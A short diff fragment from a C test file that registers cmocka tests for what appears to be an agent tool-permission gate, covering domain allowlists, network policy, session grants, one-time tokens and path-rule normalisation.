+		T(test_glob_table),
+		T(test_glob_is_linear_on_hostile_input),
+		T(test_glob_check_refuses_bad_patterns),
+		T(test_pointer_finds_nested_and_escaped_keys),
+		T(test_rules_match_escaped_pointer_arguments),
+		T(test_url_host_table),
+		T(test_domain_allowlist_table),
+		T(test_domain_check_normalizes_and_refuses),
+		T(test_network_policy_uses_allowlist),
+		T(test_network_policy_empty_allowlist_denies),
+		T(test_network_policy_ask_level_asks_for_unlisted_hosts),
+		T(test_network_tool_without_url_arg_is_denied),
+		T(test_destructive_tool_with_url_arg_keeps_the_allowlist),
+		T(test_policy_levels_are_configurable),
+		T(test_session_grant_allows_identical_call),
+		T(test_session_grant_applies_in_its_own_session_only),
+		T(test_session_grant_never_lifts_a_deny),
+		T(test_token_is_used_once),
+		T(test_token_refuses_changed_arguments_and_is_revoked),
+		T(test_token_revoke_and_unknown_tokens),
+		T(test_policy_copy_is_deep),
+		TW(test_gate_path_allow_rule_sees_through_dotdot_and_links),
+		TW(test_gate_path_allow_rule_needs_every_path_argument),
+		TW(test_gate_path_deny_rule_any_argument_any_spelling),
+		TW(test_gate_args_rule_on_path_argument_is_normalized),
+		TW(test_gate_protected_paths_deny_writing_tools),
+		TW(test_gate_patch_paths_meet_every_path_rule),
+		TW(test_gate_program_patch_is_read_strictly),
+		TW(test_gate_protected_patterns_any_depth),
+		TW(test_gate_docs_destructive_example),
 	};
 	return cmocka_run_group_tests(tests, NULL, NULL);
 }
